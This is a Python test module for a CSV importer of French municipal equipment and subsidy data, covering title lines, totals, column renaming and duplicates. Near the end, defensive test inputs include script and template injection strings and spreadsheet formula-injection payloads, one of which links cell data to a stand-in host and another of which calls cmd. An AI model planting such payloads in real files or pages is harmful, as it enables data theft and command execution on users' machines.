"""CSV files with lines that are no data, and with columns under other names."""

from __future__ import annotations

from hostile_files.case import accepted, lost, noticed, partly, refused, text
from hostile_files.rows import COLUMNS, TWO, lines, row, table

_HEADER = ";".join(COLUMNS)
_TITLES = "Équipements du contrat de ville;;;;;;;\nSituation au 1er janvier 2026;;;;;;;\n;;;;;;;\n"
_SCDL = (
    "COLL_NOM;EQUIP_UID;EQUIP_NOM;EQUIP_TYPE;EQUIP_LAT;EQUIP_LONG;ADR_CODEPOSTAL",
    "Chambéry;73065-EQ-1;Gymnase;Gymnase;45.571;5.921;73000",
    "Chambéry;73065-EQ-2;Piscine;Piscine;45.572;5.922;73000",
)
_SUBVENTIONS = (
    "nomAttribuant;idAttribuant;dateConvention;nomBeneficiaire;objet;montant;nature",
    "Ville;20006911000019;2024-03-04;Régie Plus;Atelier vélo;1500.00;aide en numéraire",
    "Ville;20006911000019;2024-05-12;Posse 33;Jardin partagé;800.00;aide en numéraire",
)


def _csv(*rows: str):
    return text("a.csv", "".join(f"{line}\n" for line in rows))


def _renamed(**names: str) -> str:
    return ";".join(names.get(column, column) for column in COLUMNS)


LINES = (
    accepted("blank rows", table(row(1), ";;;;;;;", "", "  ; ;;;;;;", row(2)), kept=2, blank=3),
    accepted("title lines", text("a.csv", _TITLES + lines(*TWO)), kept=2, header_row=4),
    accepted("title lines, the header declared", text("a.csv", _TITLES + lines(*TWO)), kept=2,
             arguments=("--header-row", "4")),
    lost("a header row beyond the end", table(*TWO), "99", arguments=("--header-row", "99"),
         usage=True),
    lost("header row 0", table(*TWO), arguments=("--header-row", "0"), usage=True),
    lost("a data row declared as header", table(*TWO), "column|header",
         arguments=("--header-row", "2")),
    accepted("comment lines above", text("a.csv", "# exporté le 3 mars\n" + lines(*TWO)), kept=2),
    accepted("a total at the end", table(*TWO, "Total;;;;;;;"), "total", kept=2, total=1),
    accepted("a total in the middle", table(row(1), "Sous-total;1;;;;;;", row(2)), "total", kept=2,
             total=1),
    accepted("a grand total", table(*TWO, ";TOTAL GÉNÉRAL : 2;;;;;;"), "total", kept=2, total=1),
    accepted("a name that begins as a total", table(row(1, nom="Total Énergie, relais"), row(2)),
             kept=2, total=0),
    accepted("an id that is called total", table(row(1, id="total"), row(2)), kept=2, total=0),
    noticed("two header lines", table(
        "Identifiant;Nom;Type;Code INSEE;Latitude;Longitude;Statut;Source", *TWO), kept=2),
    noticed("the header again in the middle", table(row(1), _HEADER, row(2)), "header|row", kept=2),
    noticed("a note at the end", table(*TWO, "Source : relevé de la ville, mars 2026;;;;;;;"),
            "row|note|source", kept=2),
)  # fmt: skip

COLUMN_NAMES = (
    accepted("columns of the SCDL", _csv(*_SCDL), "EQUIP_UID", kept=2,
             arguments=("--as", "equipment")),
    accepted("columns of the SCDL, role guessed", _csv(*_SCDL), kept=2, role="equipment"),
    accepted("columns of the subventions", _csv(*_SUBVENTIONS), "nomBeneficiaire", kept=2,
             arguments=("--as", "actions")),
    accepted("other case and accents", table(*TWO, header=_renamed(
        code_insee="Code INSEE", longitude="LONGITUDE (WGS84)", latitude="Latitude (WGS84)",
        nom="NOM", id="Id")), "Code INSEE", kept=2),
    accepted("short names of the coordinates", table(*TWO, header=_renamed(
        latitude="lat", longitude="lon")), kept=2),
    accepted("short names with g", table(*TWO, header=_renamed(
        latitude="Lat", longitude="Lng")), kept=2),
    accepted("spaces around the names", table(*TWO, header=" ; ".join(COLUMNS)), kept=2),
    accepted("no-break spaces in the names", table(*TWO, header=_renamed(
        code_insee="Code\u00a0INSEE")), kept=2),
    accepted("zero-width characters in the names", table(*TWO, header=_renamed(
        id="\u200bid", nom="nom\u200b")), kept=2),
    accepted("decomposed accents in the values", table(row(1, nom="Fe\u0301jaz"), row(2)), kept=2),
    accepted("quoted names", table(*TWO, header=";".join(f'"{c}"' for c in COLUMNS)), kept=2),
    accepted("a column without a name", table(
        *(f"{n};{line}" for n, line in enumerate(TWO)), header=f";{_HEADER}"), kept=2),
    refused("a column twice", table(*(f"{line};45,9" for line in TWO),
                                    header=f"{_HEADER};latitude"), "latitude",
            "twice|two|duplicate|more than once|several"),
    noticed("two spellings of a column", table(*(f"{line};45,9" for line in TWO),
                                               header=f"{_HEADER};lat"), r"\blat\b"),
    refused("no column that is known", _csv("couleur;forme", "rouge;rond", "bleu;carré"),
            "column|id", arguments=("--as", "equipment")),
    noticed("no id", _csv("nom;latitude;longitude", "Crèche;45,57;5,92"), r"\bid\b",
            arguments=("--as", "equipment")),
    lost("declared as something else", table(*TWO), "raster", arguments=("--as", "raster")),
    lost("a table declared as perimeters", table(*TWO), "perimeter|geometr|outline|code|column",
         arguments=("--as", "perimeters")),
    accepted("names such as NA and null", table(
        row(1, nom="NA"), row(2, nom="null"), row(3, nom="None"), row(4, nom="nan"),
        row(5, nom="N/A")), kept=5),
    accepted("markup in names", table(
        row(1, nom="<script>alert(1)</script>"), row(2, nom="{{ 7*7 }}"),
        row(3, nom="`${alert(1)}`")), kept=3),
    accepted("formulas in names", table(
        row(1, nom='"=HYPERLINK(""http://evil.invalid/?""&A1)"'), row(2, nom="+1+cmd|' /C x'!A0"),
        row(3, nom="@SUM(A1)"), row(4, nom="-2+3")), kept=4),
    partly("exact duplicates", table(row(1), row(1), row(2)), "duplicate|twice|same|identical",
           kept=2),
)  # fmt: skip

CASES = (*LINES, *COLUMN_NAMES)
